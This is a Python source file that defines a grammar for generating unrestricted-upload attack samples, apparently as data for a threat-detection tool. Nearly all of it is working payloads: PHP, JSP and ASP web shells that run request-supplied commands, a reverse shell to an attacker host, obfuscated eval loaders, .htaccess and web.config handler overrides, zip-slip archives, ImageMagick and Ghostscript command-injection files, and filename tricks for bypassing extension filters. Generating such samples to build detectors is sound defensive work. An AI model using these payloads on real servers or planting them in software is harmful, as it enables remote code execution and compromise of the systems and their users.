"""Unrestricted upload: script files of every server language under many names, types, magic bytes and ways in."""

from threatclip.pairs.grammar.start import Start

STARTS = (
    Start("php_part", weight=8, places=("part",), family="PHP"),
    Start("jsp_part", weight=3, places=("part",), family="Java"),
    Start("asp_part", weight=2, places=("part",), family=".NET"),
    Start("other_part", weight=2, places=("part",)),
    Start("put", weight=4, places=("put",)),
    Start("json_upload", weight=3, places=("jsonbody",)),
    Start("form_upload", weight=3, places=("formbody",)),
    Start("raw_upload", weight=3, places=("message",)),
    Start("soap_upload", weight=1, places=("xml",)),
)

TEXT = r"""
php_part := *8 «cd»filename="«php_name»"«head»«php_body» ¦ «cd»filename=«base».php«head»«php_body»
  ¦ «cd»filename="«word».«=jpg~png~pdf»"; filename="«php_name»"«head»«php_body»
  ¦ «cd»filename*="utf-8''«php_name»"«head»«php_body»
  ¦ Content-Disposition: form-data; filename="«php_name»"; name="«field»"«head»«php_body»
  ¦ «cd»filename="«base».«image_ext»"«head»«magic»«php_shell» ¦ «cd»filename="«php_name»"«head»«harmless»
  ¦ «cd»filename=".htaccess"«head»«htaccess» ¦ «cd»filename="«base».zip"«head»«zip_slip»
jsp_part := *5 «cd»filename="«jsp_name»"«head»«jsp_body» ¦ «cd»filename="«jsp_name»"«head»«harmless»
  ¦ «cd»filename="«base».«=war~zip~jar»"«head»«zip_slip»
  ¦ Content-Disposition: form-data; filename="«jsp_name»"; name="«field»"«head»«jsp_body»
asp_part := *5 «cd»filename="«asp_name»"«head»«asp_body» ¦ «cd»filename="«asp_name»"«head»«harmless»
  ¦ «cd»filename="web.config"«head»«htaccess»
other_part := *3 «cd»filename="«other_name»"«head»«other_body» ¦ *2 «cd»filename="«base».«archive»"«head»«zip_slip»
  ¦ «cd»filename="«config_name»"«head»«htaccess» ¦ «cd»filename="«base».«=svg~mvg~ps~jpg»"«head»«svg_file»
cd := *12 Content-Disposition: form-data; name="«field»";«sp» ¦ content-disposition: form-data; name="«field»";«sp»
  ¦ Content-Disposition: form-data; name=«field»;«sp» ¦ Content-Disposition: attachment; name="«field»";«sp»
  ¦ Content-Disposition: form-data;name="«field»";
head := *12 «cr»«nl»Content-Type: «ctype»«cr»«nl»«cr»«nl» ¦ *2 «cr»«nl»«cr»«nl»
  ¦ «cr»«nl»Content-Type: «ctype»«cr»«nl»Content-Transfer-Encoding: binary«cr»«nl»«cr»«nl»
  ¦ «cr»«nl»Content-Type: «ctype»«cr»«nl»Content-Length: «int»«cr»«nl»«cr»«nl» ¦ *3 «nl»Content-Type: «ctype»«nl»«nl»
php_body := *5 «php_shell» ¦ *2 «magic»«php_shell» ¦ «php_shell»«nl» ¦ «harmless»«php_shell»
jsp_body := *5 «jsp_shell» ¦ «magic»«jsp_shell» ¦ «jsp_shell»«nl»
asp_body := *5 «asp_shell» ¦ «magic»«asp_shell» ¦ «asp_shell»«nl»
other_body := *3 «other_shell» ¦ «harmless» ¦ «php_shell» ¦ «svg_file» ¦ «jsp_shell» ¦ «asp_shell»
content := *8 «php_shell» ¦ *3 «jsp_shell» ¦ *3 «asp_shell» ¦ *2 «magic»«php_shell» ¦ «harmless» ¦ «other_shell»
  ¦ «zip_slip»
field := *5 file ¦ *2 upload ¦ *2 Filedata ¦ files[] ¦ file[] ¦ image ¦ img ¦ photo ¦ avatar ¦ userfile ¦ uploadfile
  ¦ upload_file ¦ async-upload ¦ qqfile ¦ myfile ¦ files ¦ document ¦ attachment ¦ media ¦ logo ¦ picture ¦ fileToUpload
  ¦ upfile ¦ imgFile ¦ plugin ¦ pluginzip ¦ themezip ¦ package ¦ module ¦ archive ¦ zip ¦ import ¦ import_file
  ¦ csv_file ¦ resume ¦ cv ¦ profile_pic ¦ «word» ¦ «word»_file ¦ «word»[«word»] ¦ file_«small» ¦ FileData ¦ fileData
  ¦ newFile ¦ uploadedFile ¦ NewFile ¦ upload[] ¦ wpfile ¦ ufile ¦ theFile ¦ filename ¦ attach ¦ ad_file ¦ imageFile
  ¦ banner ¦ icon
base := *4 «rand» ¦ *2 «word» ¦ shell ¦ cmd ¦ test ¦ x ¦ up ¦ info ¦ poc ¦ «rand20» ¦ «hex32» ¦ «coined» ¦ «ab»
  ¦ .«rand» ¦ 1 ¦ index ¦ «int» ¦ wso ¦ a.b ¦ image ¦ upload ¦ logo ¦ «word»_«int» ¦ ..«rand»
filename := *5 «php_name» ¦ *2 «jsp_name» ¦ *2 «asp_name» ¦ «other_name» ¦ «config_name» ¦ «base».«archive»
php_name := *8 «base».php ¦ *3 «base».«php_ext» ¦ «base».php.«image_ext» ¦ «base».«image_ext».php
  ¦ «base».«=pHp~PhP~PHP~pHP5~PhAr» ¦ «base».php%00.«image_ext» ¦ «base».php\x00.«image_ext» ¦ «base».php;.«image_ext»
  ¦ «base».php. ¦ «base».php/ ¦ «base».php.... ¦ «base».php«sp» ¦ «base».php::$DATA ¦ «base».p.phphp ¦ «base».pphphp
  ¦ «base».php.«rand» ¦ «base».php_ ¦ «base».php~ ¦ ../«base».php ¦ *2 «climb»«base».php ¦ /«word»/«base».php
  ¦ «base».php%20 ¦ «base».php%0a ¦ «base»“.php ¦ ;«base».php ¦ «base».jpg.php.jpg ¦ «base».«image_ext»/.php
  ¦ «base».php?.«image_ext» ¦ «base».php#.«image_ext» ¦ <?=`id`?>.«image_ext» ¦ «base».php%2f ¦ \«base».php
  ¦ «base».php«nul».«image_ext» ¦ ${IFS}«base».php ¦ «base».phtml ¦ «base».«image_ext».phtml ¦ «base».php\.«image_ext»
jsp_name := *6 «base».jsp ¦ «base».jspx ¦ «base».«=JSp~jSP~jspf~jsw~jsv» ¦ «base».jsp/ ¦ «base».jsp%20
  ¦ *2 «climb»«base».jsp ¦ ../../../../webapps/«word»/«base».jsp ¦ «base».jsp;.«image_ext» ¦ «base».jsp%00.«image_ext»
  ¦ ..\..\..\«base».jsp ¦ «base».«image_ext».jsp ¦ «base».jsp. ¦ «base».jsp::$DATA ¦ «climb»«base».jspx ¦ «base».war
asp_name := *4 «base».aspx ¦ *2 «base».asp ¦ «base».ashx ¦ «base».asmx
  ¦ «base».«=AsPx~aSp~asa~cer~cdx~asax~ascx~cshtml~soap~vbhtml» ¦ «base».asp;.«image_ext»
  ¦ «base».asp;«small».«image_ext» ¦ «base».aspx::$DATA ¦ ..\..\..\«base».«=aspx~asp~ashx»
  ¦ C:\inetpub\wwwroot\«base».aspx ¦ «climb»«base».aspx ¦ «base».aspx. ¦ «base».aspx%00.«image_ext»
  ¦ «base».«image_ext».aspx
other_name := *3 «base».«other_ext» ¦ «climb»«base».«other_ext» ¦ «base».«image_ext»
config_name := *3 .htaccess ¦ .user.ini ¦ web.config ¦ *2 «climb».htaccess ¦ .htaccess%20
php_ext := phtml ¦ php5 ¦ php7 ¦ php3 ¦ php4 ¦ phar ¦ pht ¦ phps ¦ pgif ¦ shtml ¦ inc ¦ php6 ¦ phpt ¦ hphp ¦ ctp
  ¦ module ¦ php8
other_ext := jspx ¦ jspf ¦ jsw ¦ jsv ¦ ashx ¦ asmx ¦ asa ¦ cer ¦ cdx ¦ asax ¦ ascx ¦ cshtml ¦ vbhtml ¦ soap ¦ cfm ¦ cfml
  ¦ cgi ¦ pl ¦ pm ¦ py ¦ rb ¦ sh ¦ shtml ¦ stm ¦ war ¦ jar ¦ svg ¦ html ¦ htm ¦ xhtml ¦ swf ¦ exe ¦ bat ¦ ps1 ¦ vbs
  ¦ hta ¦ lua ¦ erb ¦ ejs ¦ vm ¦ ftl ¦ xsl ¦ xslt ¦ jsp.txt ¦ action ¦ do ¦ so ¦ dll
image_ext := *3 jpg ¦ *3 png ¦ *2 gif ¦ jpeg ¦ bmp ¦ ico ¦ pdf ¦ txt ¦ csv ¦ svg ¦ webp ¦ zip ¦ doc ¦ mp3
archive := *3 zip ¦ tar ¦ tar.gz ¦ tgz ¦ war ¦ jar ¦ phar ¦ rar ¦ mpkg ¦ apk ¦ vsix ¦ wgt ¦ 7z ¦ hpi ¦ ova ¦ bin ¦ dat
climb := *2 ../ ¦ *2 ../../ ¦ ../../../ ¦ ../../../../ ¦ ..%2f..%2f ¦ ..././ ¦ ....// ¦ %2e%2e%2f ¦ ../../webapps/ROOT/
  ¦ ../../../../var/www/html/ ¦ /../../ ¦ ../../../webapps/«word»/ ¦ ..%5c..%5c ¦ ../../../../../../opt/«coined»/«word»/
ctype := *4 application/octet-stream ¦ *4 image/jpeg ¦ *3 image/png ¦ *2 image/gif ¦ *2 application/x-php
  ¦ *2 text/plain ¦ application/x-httpd-php ¦ text/php ¦ application/zip ¦ application/pdf ¦ text/html ¦ image/svg+xml
  ¦ application/x-zip-compressed ¦ text/csv ¦ multipart/form-data ¦ application/java-archive ¦ text/xml ¦ video/mp4
  ¦ application/x-msdownload ¦ image/jpg ¦ audio/mpeg ¦ application/x-gzip ¦ */* ¦ image/x-icon ¦ application/x-phar
  ¦ text/x-php ¦ application/x-jsp ¦ application/x-tar ¦ application/vnd.ms-excel ¦ image/pjpeg
magic := *4 GIF89a ¦ *2 GIF89a;«nl» ¦ GIF87a ¦ «xff»«xd8»«xff»«xe0»«nul»«x10»JFIF«nul» ¦ «xff»«xd8»«xff»«xdb»
  ¦ «x89»PNG«cr»«nl»«x1a»«nl» ¦ %PDF-1.«small»«nl» ¦ BM ¦ «xff»«xd8»«xff» ¦ RIFF«rand»WEBP ¦ ID3
  ¦ «x89»PNG«cr»«nl»«x1a»«nl»«nul»«nul»«nul»«x0d»IHDR ¦ AAAA ¦ <svg> ¦ #«word»«nl» ¦ --«word»«nl»
php_shell := *3 <?php system($_«super»['«ab»']); ?> ¦ *2 <?php @eval($_POST['«ab»']);?>
  ¦ <?php eval($_«super»["«ab»"]);?> ¦ *2 <?php phpinfo();?> ¦ *3 <?php echo md5(«int»);unlink(__FILE__);?>
  ¦ *2 <?php echo md5('«rand»');?> ¦ *2 <?php echo "«rand»"; ?> ¦ <?php echo("«rand»"); unlink(__FILE__); ?>
  ¦ <?php echo «int»*«int»;?> ¦ <?php print("«rand»");?> ¦ <?=`$_«super»[«d»]`?> ¦ <?= system($_«super»["«ab»"]) ?>
  ¦ <?php passthru($_«super»["«ab»"]);?> ¦ <?php echo shell_exec($_«super»['«ab»'].' 2>&1'); ?>
  ¦ <?php if(isset($_REQUEST['«$k:ab»'])){echo "<pre>";$cmd=($_REQUEST['«$k»']);system($cmd);echo "</pre>";die;}?>
  ¦ <?php assert($_POST['«ab»']);?> ¦ <?php $«$f:ab»=$_GET['«ab»'];$«$f»($_POST['«ab»']);?>
  ¦ <?php echo exec('«unix_info»');?> ¦ <?php system("«unix_info»");?>
  ¦ <?php file_put_contents($_GET['«ab»'],file_get_contents($_GET['«ab»'])); ?>
  ¦ <?php move_uploaded_file($_FILES['«ab»']['tmp_name'],$_FILES['«ab»']['name']);?> ¦ <? system($_GET[«ab»]); ?>
  ¦ <script language="php">system($_GET["«ab»"])</script> ¦ <?php eval(base64_decode('«b40»'));?>
  ¦ <?php eval(gzinflate(base64_decode('«b64s»')));?> ¦ <?php $«$a:ab»='sys'.'tem';$«$a»($_REQUEST[«d»]);?>
  ¦ <?php array_map("ass"."ert",(array)$_REQUEST['«ab»']);?>
  ¦ <?php header("«coined|cap»: «rand»"); echo php_uname(); ?> ¦ <?php include($_GET['«ab»']);?>
  ¦ <?php readfile('«unix_file»');?> ¦ <?php echo file_get_contents("«unix_file»");?>
  ¦ <?php $s=fsockopen("«attacker»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");?>
  ¦ <?php echo "«rand»"."«rand»";@unlink($_SERVER['SCRIPT_FILENAME']);?>
  ¦ <?php class «$c:coined|cap»{function __destruct(){@eval($this->«$p:ab»);}}$«ab»=new «$c»;?>
  ¦ <?php die(@eval($_COOKIE["«ab»"])); ?>
  ¦ <?php session_start();@set_time_limit(0);@error_reporting(0);function «$e:abc»($D,$K){for($i=0;$i<strlen($D);$i++){$D[$i]=$D[$i]^$K[$i+1&15];}return $D;}$key='«hex16»';?>
  ¦ <?php«nl»echo "«rand»";«nl»?> ¦ <?php call_user_func('assert',$_«super»['«ab»']); ?>
  ¦ <?php preg_replace("/.*/e",$_POST['«ab»'],'');?> ¦ <?php @$_="s"."s"."e"."r";@$_="a".@$_."t";@$_($_POST['«ab»']); ?>
  ¦ <?php print(PHP_VERSION.PHP_OS);?> ¦ <?php $«$v:ab»=create_function('',$_POST['«ab»']);$«$v»();?>
super := *3 GET ¦ *2 POST ¦ *2 REQUEST ¦ COOKIE
jsp_shell := *3 <% out.println("«rand»"); %>
  ¦ *2 <%out.print("«rand»");new java.io.File(application.getRealPath(request.getServletPath())).delete();%>
  ¦ <%=Runtime.getRuntime().exec(request.getParameter("«ab»"))%>
  ¦ *2 <% if("«ab»".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("«ab»")).getInputStream();int a=-1;byte[] b=new byte[2048];out.print("<pre>");while((a=in.read(b))!=-1){out.println(new String(b));}out.print("</pre>");} %>
  ¦ <%@ page import="java.util.*,java.io.*"%><% if(request.getParameter("cmd")!=null){Process p=Runtime.getRuntime().exec(request.getParameter("cmd"));DataInputStream dis=new DataInputStream(p.getInputStream());String disr=dis.readLine();while(disr!=null){out.println(disr);disr=dis.readLine();}} %>
  ¦ <%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%String k="«hex16»";%>
  ¦ <%= «int» * «int» %> ¦ <% java.lang.Runtime.getRuntime().exec("«java_cmd»"); %>
  ¦ <%out.println(new String(new sun.misc.BASE64Decoder().decodeBuffer("«rand|b64»")));%>
  ¦ <jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>out.println("«rand»");</jsp:scriptlet></jsp:root>
  ¦ ${pageContext.setAttribute("«ab»","".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()))}
  ¦ <%@ page contentType="text/html;charset=UTF-8" language="java" %>«nl»<% out.println(System.getProperty("«=os.name~user.dir~java.version»")); %>
  ¦ <%String «$c:ab»=request.getParameter("«ab»");new ProcessBuilder(«$c»).start();%>
  ¦ <%new java.io.FileOutputStream(request.getParameter("f")).write(request.getParameter("t").getBytes());%>
java_cmd := «unix_info» ¦ «unix_out» ¦ «win_info»
asp_shell := *2 <%eval request("«ab»")%> ¦ <%execute(request("«ab»"))%>
  ¦ *2 <%@ Page Language="Jscript"%><%eval(Request.Item["«ab»"],"unsafe");%>
  ¦ *2 <%@ Page Language="C#" %><% Response.Write("«rand»"); %>
  ¦ <%@ Page Language="C#"%><% Response.Write(new System.Diagnostics.Process(){StartInfo=new System.Diagnostics.ProcessStartInfo("cmd.exe","/c "+Request["«ab»"])}.Start()); %>
  ¦ <%@ WebHandler Language="C#" Class="«$h:coined|cap»" %> using System;using System.Web;public class «$h»:IHttpHandler{public void ProcessRequest(HttpContext c){c.Response.Write("«rand»");}public bool IsReusable{get{return false;}}}
  ¦ *2 <% Response.Write("«rand»") %> ¦ <%=«int»*«int»%> ¦ <% Response.Write(«int»*«int») %>
  ¦ <%Set o=Server.CreateObject("WScript.Shell"):Response.Write(o.Exec("cmd.exe /c "&Request("«ab»")).StdOut.ReadAll())%>
  ¦ <script runat="server" language="JScript">function page_load(){eval(Request["«ab»"],"unsafe");}</script>
  ¦ <%@ Page Language="C#" Debug="true" %><%@ Import Namespace="System.IO" %><%File.Delete(Server.MapPath(Request.FilePath));Response.Write("«rand»");%>
  ¦ <%@ WebService LANGUAGE="C#" Class="«coined|cap»" %>
  ¦ <% System.IO.File.WriteAllText(Server.MapPath("«rand».txt"),"«rand»"); %>
htaccess := AddType application/x-httpd-php .«=jpg~png~gif~xyz~txt»
  ¦ <FilesMatch "«rand».«=jpg~png»">«nl»SetHandler application/x-httpd-php«nl»</FilesMatch>
  ¦ auto_prepend_file=«rand».jpg ¦ php_value auto_append_file "php://filter/convert.base64-decode/resource=«rand».png"
  ¦ Options +ExecCGI«nl»AddHandler cgi-script .«rand»
  ¦ <?xml version="1.0" encoding="UTF-8"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified"/></handlers></system.webServer></configuration>
  ¦ AddHandler php5-script .«=gif~jpg~html» ¦ SetHandler server-status
zip_slip := PK«x03»«x04»«x14»«nul»«nul»«nul»«x08»«nul»«climb»«base».«=php~jsp~aspx~jspx»«php_shell»PK«x01»«x02»
  ¦ PK«x03»«x04»«x0a»«nul»«nul»«nul»«nul»«nul»«word»/«base».php«php_shell»PK«x05»«x06»
  ¦ PK«x03»«x04»«x14»«nul»«x08»«nul»«climb»«climb»«word»/«base».«=jsp~war»«jsp_shell»PK«x01»«x02»«x14»
  ¦ «climb»«base».php0000644«nul»0000000«nul»ustar«php_shell»
  ¦ PK«x03»«x04»«nul»«nul»META-INF/MANIFEST.MFPK«x03»«x04»«base».jsp«jsp_shell»PK«x05»«x06»
harmless := «rand» ¦ «rand20» ¦ «hex32» ¦ <h1>«rand»</h1> ¦ «word» «rand» ¦ vulnerable«int» ¦ «magic»«rand»
  ¦ <html>«rand»</html> ¦ test
other_shell := #!/usr/bin/perl«nl»print "Content-type: text/html\n\n";print `«unix_info»`;
  ¦ #!/bin/sh«nl»echo;«unix_cmd» ¦ #!/usr/bin/env python«nl»import os;os.system("«unix_cmd»")
  ¦ <cfexecute name="cmd.exe" arguments="/c «win_info»" timeout="5"></cfexecute>
  ¦ <cfscript>WriteOutput("«rand»");</cfscript> ¦ <!--#exec cmd="«unix_info»" -->
  ¦ #!/usr/bin/python3«nl»print("«rand»") ¦ #!/bin/bash«nl»«unix_reverse» ¦ <%= `«unix_info»` %>
  ¦ import os«nl»print(os.popen("«unix_info»").read()) ¦ MZ«x90»«nul»«x03»«nul»«rand20»
  ¦ «x7f»ELF«x02»«x01»«x01»«rand20»
svg_file := <?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>«=alert~confirm~prompt~print»(«int»)</script></svg>
  ¦ push graphic-context«nl»viewbox 0 0 640 480«nl»fill 'url(«url»"|«unix_info»")'«nl»pop graphic-context
  ¦ %!PS«nl»userdict /setpagedevice undef«nl»save«nl»legal«nl»{ null restore } stopped { pop } if«nl»mark /OutputFile (%pipe%«unix_info») currentdevice putdeviceprops
plain_path := /«rand» ¦ /«word»/«rand» ¦ /uploads/«rand» ¦ /«word»/«word»/«base» ¦ /webdav/«rand» ¦ /dav/«base»
  ¦ /fileserver/«rand» ¦ /files/«rand» ¦ /api/«word»/«rand» ¦ /content/«word»/«rand» ¦ /upload/«rand»
  ¦ /repository/«word»/«rand» ¦ /static/«base» ¦ /images/«rand» ¦ /ROOT/«rand» ¦ /public/«rand»
  ¦ /images/..%5c..%5c«rand» ¦ /fileserver/..\admin\«rand»
put := *3 «plain_path».jsp/«sep»«jsp_shell» ¦ *2 «plain_path».jsp«sep»«jsp_shell» ¦ *3 «plain_path».php«sep»«php_shell»
  ¦ *2 «plain_path».«=aspx~asp~ashx»«sep»«asp_shell» ¦ «plain_path».jsp%20«sep»«jsp_shell»
  ¦ «plain_path».jsp::$DATA«sep»«jsp_shell» ¦ «plain_path».txt«sep»«harmless» ¦ «plain_path».asp;.jpg«sep»«asp_shell»
  ¦ «plain_path».«php_ext»«sep»«php_shell» ¦ «plain_path».html«sep»«harmless» ¦ «plain_path».cgi«sep»«other_shell»
  ¦ /manager/text/deploy?path=/«rand»&update=true«sep»«zip_slip» ¦ «plain_path».jspx«sep»«jsp_shell»
sep := «x1e»
json_upload := *2 {"«fname_key»":"«filename|js»","«data_key»":"«content|b64»"}
  ¦ {"«word»":{"«fname_key»":"«filename|js»","«data_key»":"«php_shell|js»"}}
  ¦ {"«data_key»":"data:image/«=png~jpeg~php~svg+xml»;base64,«php_shell|b64»","«name»":"«rand»"}
  ¦ {"«data_key»":"data:«=text/php~application/x-php~php~image/php~application/octet-stream»;base64,«php_shell|b64»"}
  ¦ {"«fname_key»":"«climb»«base».«=php~jsp~aspx»","«data_key»":"«content|js»","«=overwrite~force~isFolder~replace»":«=true~false~1»}
  ¦ {"action":"«=upload~save~create~write»","«=path~target~dir»":"/«word»/«base».php","«data_key»":"«php_shell|js»"}
  ¦ {"requests":[{"url":"/«word»","file":{"name":"«filename|js»","data":"«content|b64»"}}]}
  ¦ {"url":"«url».php","«=target~path~name»":"«base».php"}
fname_key := *2 filename ¦ *2 fileName ¦ name ¦ file_name ¦ path ¦ file ¦ filepath ¦ FileName ¦ title ¦ dest
data_key := *2 content ¦ *2 data ¦ fileContent ¦ file ¦ body ¦ base64 ¦ file_content ¦ image ¦ contents ¦ file_data
  ¦ text ¦ code ¦ base64Data ¦ source ¦ raw
form_upload := *2 «=action~do~op~m~cmd»=«=upload~save~write~edit~savefile~put~create~import»&«fname_key»=«filename|plus»&«data_key»=«php_shell|plus»
  ¦ «fname_key»=«base».php&«data_key»=«content|plus» ¦ «data_key»=data:image/php;base64,«php_shell|b64|plus»
  ¦ imgData=«php_shell|b64|plus»&«fname_key»=«filename|plus»
  ¦ «=url~src~source~remote~file_url~imageurl~upload_url»=«url».php&«fname_key»=«base».php
  ¦ action=«word»_upload&«fname_key»=«climb»«base».php&«data_key»=«php_shell|plus»
  ¦ cmd=mkfile&target=l1_«rand|b64»&name=«base».php&«word»=«int» ¦ cmd=put&target=l1_«rand|b64»&content=«php_shell|plus»
  ¦ newcontent=«php_shell|plus»&action=update&file=«word».php&plugin=«word»/«word».php
  ¦ file=«base».php&content=«php_shell|url»&type=«=save~new» ¦ «data_key»=«jsp_shell|plus»&«fname_key»=«climb»«base».jsp
  ¦ plugin_source=«url».zip&overwrite=1
raw_upload := POST /«word»/upload.php?«fname_key»=«base».php«nl»Content-Type: application/octet-stream«nl»«nl»«php_shell»
  ¦ POST /«word»/«word»?qqfile=«base».«=php~phtml~php5»«nl»Content-Type: application/octet-stream«nl»X-File-Name: «base».php«nl»«nl»«php_shell»
  ¦ POST /«word»/upload?filename=«filename|url»«nl»Content-Type: «ctype»«nl»X-Requested-With: XMLHttpRequest«nl»«nl»«content»
  ¦ POST /servlet/«coined|cap»Upload«nl»Content-Type: application/octet-stream«nl»«fname_key|cap»: «climb»«base».jsp«nl»«nl»«jsp_shell»
  ¦ POST /«word»/FileUpload?path=«climb»webapps/&name=«base».jsp«nl»Content-Type: application/octet-stream«nl»«nl»«jsp_shell»
  ¦ POST /«word»/ofc_upload_image.php?name=«base».php«nl»Content-Type: text/plain«nl»«nl»«php_shell»
  ¦ MOVE /uploads/«rand».txt«nl»Destination: /uploads/«rand».«=php~jsp~asp;.jpg~aspx»«nl»
  ¦ POST /«word»/handlers/upload.ashx?name=«base».aspx«nl»Content-Disposition: attachment; filename="«base».aspx"«nl»Content-Type: application/octet-stream«nl»«nl»«asp_shell»
  ¦ POST /api/v«small»/«word»/upload«nl»Content-Type: application/octet-stream«nl»File-Name: «climb»«base».jsp«nl»«nl»«jsp_shell»
  ¦ PUT /api/v«small»/files/«climb»«base».php«nl»Content-Type: application/octet-stream«nl»«nl»«php_shell»
  ¦ POST /«word»/«word».do?method=upload&«fname_key»=«climb»«base».jsp«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»«jsp_shell»
operation := UploadFile ¦ SaveFile ¦ WriteFile ¦ uploadImage ¦ createDocument ¦ «coined|cap»Upload
soap_upload := <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«$o:operation»><«$n:fname_key»>«climb»«base».«=aspx~jsp~asmx~php»</«$n»><«$d:data_key»>«content|b64»</«$d»></«$o»></soap:Body></soap:Envelope>
  ¦ <?xml version="1.0"?><methodCall><methodName>«=wp.uploadFile~metaWeblog.newMediaObject~file.upload~save»</methodName><params><param><value><struct><member><name>name</name><value>«base».php</value></member><member><name>bits</name><value><base64>«php_shell|b64»</base64></value></member></struct></value></param></params></methodCall>
  ¦ <file><name>«filename|html»</name><content encoding="base64">«content|b64»</content></file>
  ¦ <job><path>«climb»«base».jsp</path><body><![CDATA[«jsp_shell»]]></body></job>
  ¦ <D:propfind xmlns:D="DAV:"><D:prop><D:«$p:word»>«base».asp;.txt</D:«$p»></D:prop></D:propfind>
"""  # noqa: E501
